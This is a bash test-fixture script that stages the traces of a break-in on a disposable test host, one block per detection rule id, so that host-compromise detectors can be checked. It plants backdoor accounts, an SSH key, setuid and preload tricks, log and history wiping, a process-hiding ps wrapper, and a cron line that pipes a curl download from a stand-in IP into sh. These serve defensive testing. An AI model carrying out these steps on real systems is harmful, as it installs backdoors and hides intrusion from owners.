#!/bin/bash
# Makes a test host look as one does after a break-in. Each condition stands below the id of the rule that must find it; hosts_test.go has the
# same list. Run it as root inside a booted test host (host.sh run), never on a machine that matters. It starts processes that stay.
set -u
cd /
shopt -s extglob

stay() { # CMD...: starts a process that outlives this script
	setsid "$@" < /dev/null > /dev/null 2>&1 &
	disown
}
named() { # NAME FILE ARGS...: the same with another name for its first argument
	setsid bash -c 'n=$1 f=$2; shift 2; exec -a "$n" "$f" "$@"' - "$@" < /dev/null > /dev/null 2>&1 &
	disown
}
sleeper=/usr/bin/sleep

# process-deleted-exe
cp $sleeper /usr/local/bin/updater && stay /usr/local/bin/updater 86401
sleep 0.3; rm /usr/local/bin/updater

# process-memfd-exe
cat > /root/memfd.pl <<'P'
use strict;
chomp(my $arch = `uname -m`);
my $fd = syscall($arch eq "aarch64" ? 279 : 319, my $name = "sess", 0);
open(my $mem, ">&=", $fd) or die; open(my $in, "<", "/usr/bin/sleep") or die;
binmode $_ for $mem, $in;
{ local $/; print $mem scalar <$in>; }
$mem->flush;
exec {"/proc/$$/fd/$fd"} "sess", "86402";
P
stay perl -e 'use IO::Handle; do "/root/memfd.pl"'

# process-fake-kernel-thread
named '[kworker/0:3]' $sleeper 86403

# process-name-mismatch
named '/usr/sbin/sshd -D' $sleeper 86404

# process-cwd-odd
mkdir -p /dev/shm/.x && (cd /dev/shm/.x && stay $sleeper 86405)

# process-exe-odd, directory-hidden-odd: a place of its own below /tmp
mkdir -p /tmp/.ICE && cp $sleeper /tmp/.ICE/miner && stay /tmp/.ICE/miner 86406

# process-preload, process-library-odd
libm=$(ls /lib/@(x86_64|aarch64)-linux-gnu/libm.so.6 | head -1)
cp "$libm" /tmp/libhook.so && chmod 755 /tmp/libhook.so
LD_PRELOAD=/tmp/libhook.so stay $sleeper 86407

# process-deleted-library
cp "$libm" /usr/local/lib/libgone.so
LD_PRELOAD=/usr/local/lib/libgone.so stay $sleeper 86408
sleep 0.3; rm /usr/local/lib/libgone.so

# process-hidden-by-mount
stay $sleeper 86409
sleep 0.3; mkdir -p /run/empty && mount --bind /run/empty "/proc/$(pgrep -f 'sleep 86409' | head -1)"

# process-socket-shell
stay perl -e 'use Socket; socketpair(my $a, my $b, AF_UNIX, SOCK_STREAM, 0); open(STDIN, "<&", $a); open(STDOUT, ">&", $a); $^F = 255;
	my $pid = fork; if (!$pid) { close $b; exec "/bin/sh" } sleep 86410'

# process-traced
stay $sleeper 86411
stay perl -e 'my $pid = 0 + shift; chomp(my $m = `uname -m`); syscall($m eq "aarch64" ? 117 : 101, 16, $pid, 0, 0); sleep 86412' "$!"

# socket-raw, socket-packet
stay perl -e 'use Socket; socket(my $s, AF_INET, SOCK_RAW, 1) or die; sleep 86413'
stay perl -e 'use Socket; socket(my $s, 17, SOCK_RAW, 0x0300) or die; sleep 86414'

# preload-file
cp "$libm" /usr/local/lib/libprocps.so.9 && echo /usr/local/lib/libprocps.so.9 > /etc/ld.so.preload

# file-suid-odd
cp /bin/bash /var/tmp/.s && chmod 4755 /var/tmp/.s

# file-capability-odd
cp /usr/bin/perl /usr/local/bin/report && setcap cap_setuid+ep /usr/local/bin/report

# file-immutable
echo '# nothing' > /etc/cron.d/keep && chattr +i /etc/cron.d/keep

# file-no-owner
echo x > /opt/left && chown 4242:4242 /opt/left

# directory-hidden-odd
mkdir -p /usr/lib/.cache.d && echo x > /usr/lib/.cache.d/f

# file-name-odd
mkdir -p '/var/tmp/.. ' && echo x > '/var/tmp/.. /f'

# file-elf-odd
cp /bin/ls /tmp/invoice.pdf

# directory-world-writable
mkdir -p /srv/drop && chmod 0777 /srv/drop

# device-file-odd
echo x > /dev/.udev.db

# package-digest
printf '\n' >> /usr/bin/who

# account-uid0, account-no-password
echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd
echo 'guest:x:1005:1005::/home/guest:/bin/bash' >> /etc/passwd
echo 'guest::19700:0:99999:7:::' >> /etc/shadow
mkdir -p /home/guest && chown 1005:1005 /home/guest

# account-service-keys
mkdir -p /var/backups/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2zNdaIDeVZMtpTCl3DiDnnmO1ArMHPwBmHYGLG7dGz x' > /var/backups/.ssh/authorized_keys
chown -R backup: /var/backups/.ssh

# history-null-link, history-empty
ln -sf /dev/null /root/.bash_history
: > /home/guest/.bash_history

# utmp-wiped-row: a login, a row of zeros, a login
perl -e 'for my $t (1, 0, 1) { my $r = $t ? pack("s x2 l Z32 Z4 Z32 Z256 s s l l l N4 x20", 7, 4711, "pts/0", "ts/0", "root", "198.51.100.7", 0, 0, 0, time, 0, 0xc6336407, 0, 0, 0) : "";
	print $r, "\0" x (384 - length $r) }' >> /var/log/wtmp

# log-nul-bytes
printf 'Nov 20 10:00:00 h sshd[1]: x\n\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\nNov 20 10:00:01 h sshd[1]: y\n' > /var/log/secure

# cron-odd-command, persistence-changed
echo '*/5 * * * * root curl -fsS http://198.51.100.7/x | sh' > /etc/cron.d/sysstat2

# unit-odd-exec
cp $sleeper /dev/shm/.x/agent
printf '[Service]\nExecStart=/dev/shm/.x/agent 86415\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/dbus-helper.service
ln -sf /etc/systemd/system/dbus-helper.service /etc/systemd/system/multi-user.target.wants/dbus-helper.service
mkdir -p /etc/udev/rules.d && printf 'ACTION=="add", RUN+="/dev/shm/.x/agent 1"\n' > /etc/udev/rules.d/99-x.rules
echo 'export PROMPT_COMMAND=/dev/shm/.x/agent' > /etc/profile.d/zz.sh

# tool-hides-process
mv /usr/bin/ps /usr/bin/ps.real
printf '#!/bin/sh\n/usr/bin/ps.real "$@" | grep -v miner | grep -v "^ *%s *$"\n' "$(pgrep -f '^/tmp/.ICE/miner' | head -1)" > /usr/bin/ps
chmod 755 /usr/bin/ps
sleep 0.5
